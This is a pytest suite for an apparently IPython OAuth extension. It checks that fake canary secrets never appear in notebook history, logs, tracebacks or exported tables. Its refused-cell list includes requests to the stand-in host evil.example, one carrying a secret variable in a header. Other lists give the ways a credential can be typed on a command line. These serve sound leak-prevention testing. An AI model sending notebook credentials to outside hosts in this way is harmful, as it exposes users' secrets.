"""No secret is anywhere that a notebook keeps, shows or writes (security: A1 to A8)."""

from __future__ import annotations

import contextlib
import copy
import gc
import linecache
import logging
import pickle
import sqlite3
import sys
import traceback
from pathlib import Path

import pytest
from canaries import leaks

from oauthmagic import Secret
from oauthmagic.errors import OAuthMagicError, SecretOnLine

#: Plainly fake; with what makes encodings differ.
TOKEN = "Canary0-Zq9xT7~wB3+kL5/mN8=="
REFRESH = "Canary1-Rf2yH6~pD4+sV1/cX0=="
PASSWORD = 'Canary2 "pä&ß/w+rd%<é>'
CLIENT_SECRET = "Canary3 s3cr:t/+&?x%'ü"
CANARIES = (TOKEN, REFRESH, PASSWORD, CLIENT_SECRET)
LOGIN = {
    "client_id": "demo-distributor",
    "client_secret": CLIENT_SECRET,
    "username": "demo-analyst",
    "password": PASSWORD,
}
WAYS = (
    *("plain", "percent", "form", "json", "html", "reversed", "hex"),
    *("base64", "base64-1", "base64-2", "base64url"),
)


def places(notebook):
    """Return everything that a shell keeps of its past: place to text or bytes."""
    shell, names = notebook.shell, notebook.names
    notebook.saved_history()
    kept = {
        "In": names["In"],
        "Out": names["Out"],
        "history": notebook("%history -n -o -t").stdout,
        "whos": notebook("%whos").stdout,
        "last": [str(names.get(name)) for name in ("_", "__", "___")],
        "inputs": [names[name] for name in names if name.startswith("_i")],
        "cells": [
            linecache.cache[name]
            for name in linecache.cache
            if linecache.cache[name][1:2] == (None,) or "ipython-input" in name
        ],
    }
    for number, value in list(names["Out"].items()):
        data, _ = shell.display_formatter.format(value)
        kept |= {f"Out[{number}] {mime}": text for mime, text in data.items()}
    folder = Path(shell.ipython_dir)
    files = [path for path in folder.rglob("*") if path.is_file()]
    for path in files:
        # The history is written in the background, and a journal comes and goes.
        with contextlib.suppress(FileNotFoundError):
            kept[path.name] = path.read_bytes()
    history = Path(shell.history_manager.hist_file)
    with sqlite3.connect(history) as database:
        for table in ("history", "output_history"):
            rows = database.execute(f"SELECT * FROM {table}").fetchall()  # noqa: S608
            kept[table] = rows
    database.close()
    return kept


@pytest.fixture
def logged():
    """What is logged at any level, by anybody, as one text."""
    records = []

    class Keep(logging.Handler):
        def emit(self, record):
            records.append(logging.Formatter().format(record))

    root, handler = logging.getLogger(), Keep(level=1)
    level = root.level
    root.setLevel(1)
    root.addHandler(handler)
    yield records
    root.removeHandler(handler)
    root.setLevel(level)


def test_the_search_finds_every_form(traces, forms):
    """Each form of each canary is found, also inside other text and colours."""
    for canary in CANARIES:
        for name, form in forms(canary).items():
            assert name in traces(b"before " + form + b" after", canary)
            middle = len(form) // 2
            coloured = form[:middle] + b"\x1b[31m" + form[middle:]
            assert name in traces(coloured, canary)
        assert traces("nothing of the kind", canary) == []


def test_the_search_finds_what_is_planted(shell):
    """A canary that a notebook does show is found in every place it gets to."""
    shell(f"planted = {TOKEN!r}")
    shell("planted")
    shell("print(planted.encode().hex())")

    found = {place for place, _, _ in leaks(places(shell), CANARIES)}

    assert found >= {
        *("In", "Out", "history", "inputs", "cells", "history.sqlite"),
        *("output_history", "Out[3] text/plain", "whos", "last"),
    }


def test_credentials_of_the_environment_are_nowhere(bare_shell, monkeypatch, logged):
    """Wrong credentials from the environment: the refusal shows none of them."""
    monkeypatch.setenv("OAUTHMAGIC_REVSTO_DEMO_PASSWORD", PASSWORD)
    monkeypatch.setenv("OAUTHMAGIC_REVSTO_DEMO_CLIENT_SECRET", CLIENT_SECRET)
    bare_shell("%load_ext oauthmagic")

    ran = [
        bare_shell(cell)
        for cell in (
            "%token revsto@demo",
            "%config OAuthMagic.short_errors = False",
            "%token revsto@demo",
            "%%api revsto@demo\nGET /distributor/v1/products",
            "%debug?",
            *(
                f"%tb {mode}"
                for mode in ("Plain", "Context", "Verbose", "Minimal", "Docs")
            ),
            "%token",
            "import oauthmagic; session = oauthmagic.current_session(); session",
            "vars(session).keys()",
        )
    ]

    assert "401" in str(ran[0].error)
    assert "Traceback" in ran[2].stdout
    kept = places(bare_shell) | {"log": logged, "outputs": ran}
    assert leaks(kept, CANARIES) == []


@pytest.mark.parametrize("short", [True, False])
def test_tracebacks_with_locals_hold_no_secret(
    bare_shell, monkeypatch, short, echo_provider
):
    """Error reporters that read the variables of every frame find nothing."""
    for name, value in LOGIN.items():
        monkeypatch.setenv(f"OAUTHMAGIC_ECHO_SANDBOX_{name.upper()}", value)
    bare_shell("%load_ext oauthmagic")
    bare_shell(f"%config OAuthMagic.short_errors = {short}")
    bare_shell(f"%token add '{echo_provider()}'")

    for cell in (
        "%token echo",
        "%token echo --grant password",
        "%%api echo\nGET /",
        "import oauthmagic; oauthmagic.current_session().token('echo')",
    ):
        error = bare_shell(cell).error
        told = traceback.TracebackException.from_exception(
            error, capture_locals=True, compact=True
        )
        shown = ["".join(told.format(chain=True)), repr(vars(error)), repr(error.args)]
        shown.append(repr(sys.last_value))

        assert "invalid_grant" in str(error)
        assert leaks({cell: shown}, CANARIES) == []
        for mode in ("Plain", "Context", "Verbose", "Minimal", "Docs"):
            bare_shell(cell)
            assert leaks({mode: bare_shell(f"%tb {mode}").stdout}, CANARIES) == []


@pytest.mark.parametrize("way", WAYS)
@pytest.mark.parametrize("method", ["client_secret_post", "client_secret_basic"])
def test_a_server_that_echoes_does_not_make_us_show(
    shell, logged, echo_provider, way, method
):
    """Whatever form a server repeats a secret in, the error and the log mask it."""
    shell(f"%token add '{echo_provider(f'/echo/{way}', method)}'")
    shell.names["mine"] = LOGIN

    ran = [
        shell("%token echo --credentials mine"),
        shell("%token echo --credentials mine --grant password"),
    ]
    del shell.names["mine"]

    assert ["[secret]" in each.stdout for each in ran] == [True, True], ran
    kept = places(shell) | {"log": logged, "outputs": ran}
    assert leaks(kept, CANARIES) == []


@pytest.mark.parametrize("way", ["plain", "base64", "hex", "reversed", "percent"])
def test_adopted_tokens_are_nowhere(shell, logged, echo_provider, way):
    """Tokens got elsewhere, sent to an API that repeats them in body and headers."""
    shell(f"%token add '{echo_provider(f'/echo/{way}')}'")
    shell.names["got"] = {"access_token": TOKEN, "refresh_token": REFRESH}
    shell.names["mine"] = LOGIN

    cells = (
        "t = %token adopt echo --from got --credentials mine",
        "del got, mine",
        "t",
        "print(t, t.access_token, f'{t.refresh_token}')",
        "%token",
        "%token show echo",
        f"%%api echo\nGET /echo/{way}",
        f"%%api echo --show headers --show body --show exchange\nPOST /echo/{way}\n\nx",
        f"%%api echo --dry-run\nGET /echo/{way}",
        f"%%api echo --frame\nGET /echo/{way}",
        "%token refresh echo",
        "%whos",
        "t?",
        "t.access_token?",
        "%pinfo2 t",
        "t.access_token + 'x'",
        "t.access_token == 'x'",
        "dir(t), dir(t.access_token), t.__slots__",
    )
    ran = [shell(cell) for cell in cells]

    assert "400" in ran[6].stdout
    assert "[secret]" in ran[6].stdout
    assert ran[9].error is not None
    kept = places(shell) | {"log": logged, "outputs": [each.stdout for each in ran]}
    assert leaks(kept, CANARIES) == []


def test_the_demo_s_own_secrets_are_nowhere(shell, logged):
    """Its tokens and credentials are treated as those of a real server."""
    cells = (
        "first = %token revsto@demo",
        "first",
        "%token",
        "%%api revsto@demo --show exchange\nGET /distributor/v1/products",
        "%token demo revsto@demo --revoke",
        "%%api revsto@demo\nGET /distributor/v1/products",
        "second = %token show revsto@demo",
        "%token scopes revsto@demo",
        "second",
    )
    ran = [shell(cell).stdout for cell in cells]
    secrets = [
        token.reveal()
        for name in ("first", "second")
        for token in (
            shell.names[name].access_token,
            shell.names[name].refresh_token,
        )
    ]

    assert len(set(secrets)) == 4
    secrets += ["simulated-client-secret", "simulated-password"]
    kept = places(shell) | {"log": logged, "outputs": ran}
    assert leaks(kept, secrets) == []


SPELLINGS = (
    *("--client-secret {}", "--client-secret={}", "--client_secret {}"),
    *("--clientsecret {}", "--CLIENT-SECRET {}", "-client-secret {}"),
    *("--secret {}", "--password {}", "--password={}", "--password '{}'"),
    *("--passwd {}", "--pwd {}", "--pass {}", "--passphrase {}", "-p {}", "-p{}"),
    *("--token {}", "--access-token {}", "--refresh_token={}", "--id-token {}"),
    *("--api-key {}", "--apikey {}", "--key {}", "--bearer {}"),
    *("--authorization 'Bearer {}'", "--auth {}", "--user me:{}", "-u me:{}"),
    *("--private-key {}", "--client-assertion {}", "--jwt {}"),
    *("password={}", "client_secret={}", "\u2014password {}", "\u2013\u2013token {}"),
    *('--credentials \'{{"password": "{}"}}\'', "--credentials {{password:{}}}"),
    *("--credentials eyJ.{}", "--password = {}", "--password   {}"),
)
ON_LINE = (
    *(
        "%token revsto@demo {}",
        "%token {} revsto@demo",
        "%token adopt revsto@demo --from names {}",
    ),
    "%%api revsto@demo {}\nGET /distributor/v1/products",
    "%api revsto@demo {} GET /distributor/v1/products",
    "x = %token revsto@demo {}",
    "for _ in range(2):\n    %token revsto@demo {}",
)
VALUE = "Canary4-typed-on-a-line"


@pytest.mark.parametrize("short", [True, False])
def test_a_secret_on_a_line_is_refused_and_not_kept(shell, short):
    """However it is spelt: refused, not repeated, in no history and no traceback."""
    shell(f"%config OAuthMagic.short_errors = {short}")
    shell("names = {}")
    said = []
    for place, spelling in enumerate(SPELLINGS):
        # Not every pair: each spelling on some lines, each line with many spellings.
        for line in (ON_LINE[place % len(ON_LINE)], ON_LINE[place * 3 % len(ON_LINE)]):
            if "api" in line and "credentials" in spelling:
                continue  # no option of theirs; refused like any unknown one
            cell = line.format(spelling.format(VALUE))
            ran = shell(cell)
            assert isinstance(ran.error, SecretOnLine), cell
            assert VALUE not in ran.stdout + ran.stderr + ran.error.hint, cell
        said.append(shell("%tb Verbose").stdout)

    assert shell.asked() == []
    assert leaks(places(shell) | {"tb": said}, [VALUE]) == []


IN_CELLS = (
    *("Authorization: Bearer {}", "authorization:Basic {}", "Authorization : {}"),
    *("Authorization: {}", "Authorization Bearer {}", "Proxy-Authorization: {}"),
    *("Cookie: session={}", "X-API-Key: {}", "AUTHORIZATION:\tBearer {}"),
)


@pytest.mark.parametrize("short", [True, False])
def test_a_secret_in_a_header_is_not_kept(shell, short):
    """Header lines that carry credentials are refused, and in no history."""
    shell(f"%config OAuthMagic.short_errors = {short}")
    said = []
    for header in IN_CELLS:
        cell = f"GET /distributor/v1/products\nAccept: */*\n{header.format(VALUE)}"
        ran = shell(f"%%api revsto@demo\n{cell}\n")
        said += [ran.stdout, ran.stderr, shell("%tb Context").stdout]
        expected = "SecretOnLine" if "Key" in header else "RequestSyntaxError"
        assert type(ran.error).__name__ == expected, header

    assert leaks(places(shell) | {"said": said}, [VALUE]) == []


@pytest.mark.parametrize(
    "request_",
    [
        "GET /distributor/v1/products?access_token={}",
        "GET /distributor/v1/products\n  ?limit=1\n  &access_token={}",
        'POST /x\nContent-Type: application/json\n\n{{"password": "{}"}}',
        "POST /x\nContent-Type: application/x-www-form-urlencoded\n\nclient_secret={}",
    ],
)
def test_a_secret_in_a_request_is_not_kept(shell, request_):
    """What a request says is a secret is sent, and neither shown nor kept."""
    said = [
        shell(f"%%api revsto@demo {options}\n{request_.format(VALUE)}").stdout
        for options in ("", "--dry-run", "--show exchange", "--out reply")
    ]

    assert leaks(places(shell) | {"said": said}, [VALUE]) == []


@pytest.mark.parametrize(
    "cell",
    [
        "%token revsto@demo --scope account_view --as mine",
        "%token revsto@demo --credentials mine --env-file my.env",
        "%token adopt revsto@demo --from tokens --credentials mine",
        '%%api revsto@demo --out token\nPOST /x\n\n{"password": "{{password}}"}\n',
        "%%api revsto@demo\nGET /x\n  ?key={{key}}\n  &page=2\nAccept: */*\n",
        "%api revsto@demo GET /users?user={{user}}&token={{token}}",
        "t = %token revsto@demo\npassword = ask()\ncreds = dict(password=password)",
        "print('--password is an option elsewhere')",
        "mysql --password x",
    ],
)
def test_the_history_keeps_what_is_no_secret(shell, cell):
    """A line without a secret is kept as it was typed."""
    shell(cell)

    assert shell.names["In"][-1] == shell.shell.transform_cell(cell).rstrip("\n")
    assert shell.shell.history_manager.input_hist_raw[-1] == cell.rstrip("\n")


def test_tables_hold_no_token(shell):
    """Tables of tokens are clean in every format that pandas writes."""
    table = shell("%token\n%token revsto@demo -q\n%token").value
    secrets = [
        secret.reveal()
        for token in [shell("%token show revsto@demo").value]
        for secret in (token.access_token, token.refresh_token)
    ]

    written = {
        "csv": table.to_csv(),
        "html": table.to_html(),
        "repr": table._repr_html_(),
        "json": table.to_json(date_format="iso"),
        "string": table.to_string(),
        "dict": table.to_dict(),
        "pickle": pickle.dumps(table),
        "records": table.to_records(),
    }
    assert len(table) == 1
    assert leaks(written, secrets) == []


def test_tokens_are_copied_as_they_are(shell):
    """A copy is the same object, so no copy outlives its secret's redaction."""
    token = shell("%token revsto@demo").value

    assert copy.copy(token) is token
    assert copy.deepcopy([token.access_token])[0] is token.access_token


def test_what_a_notebook_holds_leads_to_no_plain_secret(shell):
    """From `Out` and the variables, every way to a secret goes through `Secret`."""
    shell("t = %token revsto@demo")
    shell("t")
    shell("%api revsto@demo GET /distributor/v1/products")
    shell("%token")
    shell("%token nope")
    token = shell.names["t"]
    secrets = {token.access_token.reveal(), token.refresh_token.reveal()}

    seen, todo, found = set(), [shell.names["Out"], token], []
    todo += [value for name, value in shell.names.items() if name in ("_", "__", "t")]
    for _ in range(6):
        following = []
        for value in todo:
            # Modules and classes lead everywhere, the test itself included.
            if id(value) in seen or isinstance(value, Secret | type | type(sys)):
                continue
            seen.add(id(value))
            if isinstance(value, str | bytes):
                text = value.decode("latin-1") if isinstance(value, bytes) else value
                found += [secret for secret in secrets if secret in text]
            following += gc.get_referents(value)
        todo = following
    assert found == []
    assert len(seen) > 100


MODES = ("Plain", "Context", "Verbose", "Minimal", "Docs")
REFUSED = (
    "%api echo GET http://evil.example/",
    "%%api echo\nGET http://evil.example/",
    "%token echo --credentials mine",
    "%token echo --credentials nope",
    "%token adopt echo --from mine --credentials other",
    "%token echo --scope a --credentials other",
    "%api echo GET /{{other}}",
    "%%api echo\nGET /\nX-Trace: {{mine}}",
    "%%api echo\nGET http://evil.example/\nX-Trace: {{plain}}",
    "%token nope",
    "def ask():\n    inner = dict(other)\n    %token echo --credentials inner\nask()",
)


@pytest.mark.parametrize("mode", MODES)
def test_variables_of_the_notebook_are_in_no_traceback(shell, mode, echo_provider):
    """What a cell read from a file, whether it was given to us or not."""
    shell(f"%token add '{echo_provider()}'")
    shell("%config OAuthMagic.short_errors = False")
    # As `json.load` would: the values were never typed.
    shell.names["mine"] = LOGIN
    shell.names["other"] = {"account": {"key": TOKEN, "client_secret": REFRESH}}
    shell.names["plain"] = TOKEN
    shell(f"%xmode {mode}")

    for cell in REFUSED:
        ran = shell(cell)
        shown = [ran.stdout, ran.stderr]
        assert isinstance(ran.error, OAuthMagicError), cell
        shown += [shell(f"%tb {each}").stdout for each in MODES]
        shell(f"%xmode {mode}")
        assert leaks({cell: shown}, CANARIES) == [], cell


def test_no_frame_of_ours_shows_the_notebook(shell, echo_provider):
    """Nor does an error reporter see it there that reads the variables of frames."""
    shell(f"%token add '{echo_provider()}'")
    shell("%config OAuthMagic.short_errors = False")
    shell.names["mine"] = LOGIN
    shell.names["other"] = {"account": {"key": TOKEN, "client_secret": REFRESH}}
    shell.names["plain"] = TOKEN

    for cell in REFUSED:
        frames = traceback.StackSummary.extract(
            traceback.walk_tb(shell(cell).error.__traceback__), capture_locals=True
        )
        # The cell itself has them, and so has what runs it.
        ways = [place for place, each in enumerate(frames) if "_magic" in each.name]
        shown = [repr(each.locals) for each in frames[ways[0] :]]
        assert leaks({cell: shown}, CANARIES) == [], cell


def test_a_magic_sees_the_variables_of_its_function(shell, echo_provider):
    """They come before the notebook's, which may have none of the name."""
    shell(f"%token add '{echo_provider()}'")
    shell.names["other"] = LOGIN
    line = "%token echo --credentials inner"

    outside = shell(line)
    inside = shell(f"def ask():\n    inner = dict(other)\n    {line}\nask()")

    assert "inner" in str(outside.error)
    assert "invalid_grant" in str(inside.error)
